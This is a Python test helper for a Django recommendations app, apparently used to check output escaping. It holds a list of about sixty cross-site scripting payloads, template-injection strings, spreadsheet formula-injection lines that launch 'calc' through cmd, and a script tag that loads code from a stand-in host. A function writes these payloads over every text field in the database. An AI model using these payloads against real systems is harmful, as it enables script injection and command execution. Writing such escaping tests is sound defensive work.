"""Sixty ways in which a text could become a program, each made to leave the same mark where it does: an element or an
attribute ``xown``, or ``window.xown``; and a world in which every text that people write, or files bring, is made of them."""

from collections.abc import Iterator
from itertools import count, cycle
from typing import Any

from django.apps import apps
from django.db import connection, models, transaction

from recommendations.door import is_history
from recommendations.models import Recommendation
from recommendations.models.rules import LabelField
from recommendations.models.written import LineField, WebAddressField, WordsField
from recommendations.search.keeping import keep

RUN = "xown=1"
PAYLOADS = [
    # elements
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    "<script src=//x.example/x.js xown></script>",
    f"<img src=x onerror={RUN} xown>",
    f"<svg onload={RUN} xown>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate xown onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set xown attributeName=onmouseover to={RUN}>",
    f"<svg><a xown xlink:href=javascript:{RUN}><text y=9>x",
    "<svg><use xown href='data:image/svg+xml,<svg id=x/>#x'>",
    f"<math xown href=javascript:{RUN}>x",
    f"<iframe xown srcdoc='<script>top.{RUN}</script>'>",
    f"<iframe xown src=javascript:top.{RUN}>",
    f"<object xown data=javascript:{RUN}>",
    f"<embed xown src=javascript:{RUN}>",
    f"<details xown open ontoggle={RUN}>",
    f"<body xown onload={RUN}>",
    f"<video xown><source onerror={RUN}>",
    f"<audio xown src=x onerror={RUN}>",
    f"<input xown autofocus onfocus={RUN}>",
    f"<marquee xown onstart={RUN}>",
    f"<form xown><button formaction=javascript:{RUN}>x",
    "<base xown href=//x.example/>",
    "<link xown rel=stylesheet href=//x.example/x>",
    f"<meta xown http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<style xown>*{display:none}</style>",
    f"<custom-x xown onclick={RUN}>x</custom-x>",
    f"<template xown><img src=x onerror={RUN}></template>",
    f"<dialog xown open onclose={RUN}>x",
    # attributes
    f'" onmouseover={RUN} xown="',
    f"' onmouseover={RUN} xown='",
    f"` onmouseover={RUN} xown=`",
    f" onfocus={RUN} autofocus xown tabindex=1 ",
    f'"><img src=x onerror={RUN} xown>',
    f"'><img src=x onerror={RUN} xown>",
    f'" style="background:url(javascript:{RUN})" xown="',
    f'" accesskey=x onclick={RUN} xown="',
    # out of what text stands in
    f"</title><img src=x onerror={RUN} xown>",
    f"</textarea><img src=x onerror={RUN} xown>",
    f"</style><img src=x onerror={RUN} xown>",
    f"</noscript><img src=x onerror={RUN} xown>",
    f"--><img src=x onerror={RUN} xown><!--",
    f"]]><img src=x onerror={RUN} xown><![CDATA[",
    f"</select></option><img src=x onerror={RUN} xown>",
    f'","x":"</script><img src=x onerror={RUN} xown>',
    # into programs, templates, style
    f"';{RUN};'",
    f'\\";{RUN};//',
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{% load xown %}{{ 7|xown }}",
    f"}}</style><script>{RUN}</script>",
    "x:expression(xown=1)",
    # addresses
    f"javascript:{RUN}//",
    f"java\tscript:{RUN}".replace("\t", "&Tab;"),
    f"data:text/html,<script>{RUN}</script>",
    # what changes when it is read twice
    f"&lt;img src=x onerror={RUN} xown&gt;",
    f"&#60;img src=x onerror={RUN} xown&#62;",
    f"%3Cimg src=x onerror={RUN} xown%3E",
    f"\\u003cimg src=x onerror={RUN} xown\\u003e",
    f"＜img src=x onerror={RUN} xown＞",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<math><mtext><table><mglyph><style><!--</style><img xown title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN} xown>">',
    # what a spreadsheet or a mail would take for more than text
    '=HYPERLINK("javascript:xown","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
]
# Texts that files or browsers gave, beside those that people write.
AS_BROUGHT = {"original_name", "words", "where", "contact", "notes", "device"}
NAMED = {"ConfidentialSource", "Upload", "Import"}  # of these "name" is no name of the record


def may_be_filled(field: models.Field, row: models.Model) -> bool:
    """Not what is empty and has a rule of its own: a row may have it only where it has something else."""
    rules = [str(rule) for rule in field.model._meta.constraints if not rule.name.endswith("_hide_nothing")]
    is_ruled = any(field.name in rule for rule in rules) and not isinstance(field, WebAddressField)
    return bool(getattr(row, field.name)) or not is_ruled


def texts(model: type[models.Model]) -> Iterator[models.Field]:
    for field in model._meta.concrete_fields:
        is_ours = isinstance(field, LineField | WordsField | WebAddressField | LabelField)
        is_brought = field.name in AS_BROUGHT or (field.name == "name" and model.__name__ in NAMED)
        is_text = isinstance(field, models.CharField | models.TextField) and not field.choices
        if (is_ours or (is_brought and is_text)) and field.name not in {"paragraph", "username"}:
            yield field


def fill_every_text(*, first: int) -> int:
    """Write payloads over every text of every row, from the ``first`` on; how many texts were written.

    Published words are never changed: triggers see to that, and are put aside here.
    """
    turn, written = cycle(PAYLOADS[first:] + PAYLOADS[:first]), count()
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET CONSTRAINTS ALL IMMEDIATE")
        for model in apps.get_app_config("recommendations").get_models():
            if is_history(model) or model._meta.proxy or not model._meta.managed:
                continue
            cursor.execute(f'ALTER TABLE "{model._meta.db_table}" DISABLE TRIGGER USER')
            for row in model._base_manager.all():
                fields = [field for field in texts(model) if may_be_filled(field, row)]
                values = {field.attname: payload(field, row, turn) for field in fields}
                if values:
                    model._base_manager.filter(pk=row.pk).update(**values)
                    next(written)
            cursor.execute(f'ALTER TABLE "{model._meta.db_table}" ENABLE TRIGGER USER')
    keep(Recommendation.objects.values_list("pk", flat=True))
    return next(written)


def payload(field: models.Field, row: models.Model, turn: Any) -> Any:
    if isinstance(field, LabelField):
        return {code: next(turn)[:400] for code in ("en", "ru", "kk")}
    if isinstance(field, WebAddressField):
        return f"https://x.example/{row.pk}?{''.join(next(turn).split())}"
    if not field.max_length:
        return "\n".join(PAYLOADS)
    text = next(turn)
    while field.max_length > 100 and len(longer := f"{text} {next(turn)}") < field.max_length - 12:
        text = longer
    mine = f" {row.pk}"  # no two are alike
    return text[: field.max_length - len(mine)] + mine
